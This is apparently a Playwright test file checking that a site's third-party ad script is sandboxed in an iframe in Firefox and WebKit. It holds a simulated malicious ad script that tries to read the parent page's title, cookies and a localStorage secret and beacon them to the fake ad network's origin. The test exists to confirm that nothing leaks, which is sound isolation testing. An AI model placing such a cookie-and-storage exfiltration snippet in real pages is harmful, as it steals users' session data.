/** Tests the ad network's script in its own frame, in Firefox and WebKit. */
import { mergeTests } from '@playwright/test';
import { AD_SOURCE } from '../../support/companion/adCases';
import { startProxy } from '../../support/companion/siteProxy';
import { expect, test as companionTest } from '../../support/companion/test';
import { bundleVariant, createCompanionOptions } from '../../support/companion/variant';
import { waitUntil } from '../../support/engines/engine';
import { test as engineTest } from '../../support/engines/test';
import { PAGE_KINDS } from '../../support/site';

const AD_UNIT_EXPRESSION = `document.querySelector('[data-companion-room]')`;

const test = mergeTests(companionTest, engineTest);

/** Returns an ad script that tells the network its origin, and any data of the page that it can read. */
const createReportingScript = (origin: string): string => `${AD_SOURCE}
const seen = [() => parent.document.title, () => document.cookie, () => localStorage.secret]
  .map((look) => { try { return look() || 'nothing'; } catch { return 'nothing'; } });
new Image().src = ${JSON.stringify(origin)} + '/pixel/report/' + [self.origin, ...seen].join();
`;

for (const engineName of ['Firefox', 'WebKit'] as const) {
  test.describe(`a reader with ${engineName}`, () => {
    test.use({ engineName });

    test('it covers the framed ad with the page’s own link, and isolates the ad script in the frame', async ({
      engine,
      network,
    }) => {
      // The proxy uses http:, because these engines don't trust self-signed certificates.
      const siteProxy = await startProxy();
      try {
        siteProxy.variant = await bundleVariant(
          createCompanionOptions(network, { ads: { network: { isolation: 'frame' } } }),
        );
        // The secrets are stored while a text file of the same origin is open, because any page would request an ad.
        await engine.goto(siteProxy.url('/robots.txt'));
        await engine.evaluate(`document.cookie = localStorage.secret = 'secret=kept'`);
        network.set({ source: createReportingScript(network.origin) });
        await engine.goto(siteProxy.url(PAGE_KINDS.text));
        // The class and the link are added when the frame's message arrives.
        await waitUntil(
          engine,
          `${AD_UNIT_EXPRESSION}.querySelector('.ad-framed.carbonads') !== null`,
          'the message',
        );
        const link = `${AD_UNIT_EXPRESSION}.querySelector('a.ad-cover')`;
        expect(await engine.evaluate(`${link}.href`)).toBe(
          'https://ads.fake-network.test/click/script',
        );
        await waitUntil(
          engine,
          `${link}.dataset.gaEventLabel === 'carbon-body-top-image'`,
          'its label',
        );
        const isOnTop = `(() => {
          const { x, y, width, height } = ${AD_UNIT_EXPRESSION}.querySelector('iframe.ad-frame').getBoundingClientRect();
          return document.elementFromPoint(x + width / 2, y + height / 2) === ${link};
        })()`;
        expect(await engine.evaluate(isOnTop)).toBe(true);
        const getReports = (): string[] =>
          network.requests().flatMap(({ url }) => url.split('/pixel/report/')[1] ?? []);
        await expect.poll(getReports).toEqual(['null,nothing,nothing,nothing']);
      } finally {
        await siteProxy.close();
      }
    });
  });
}
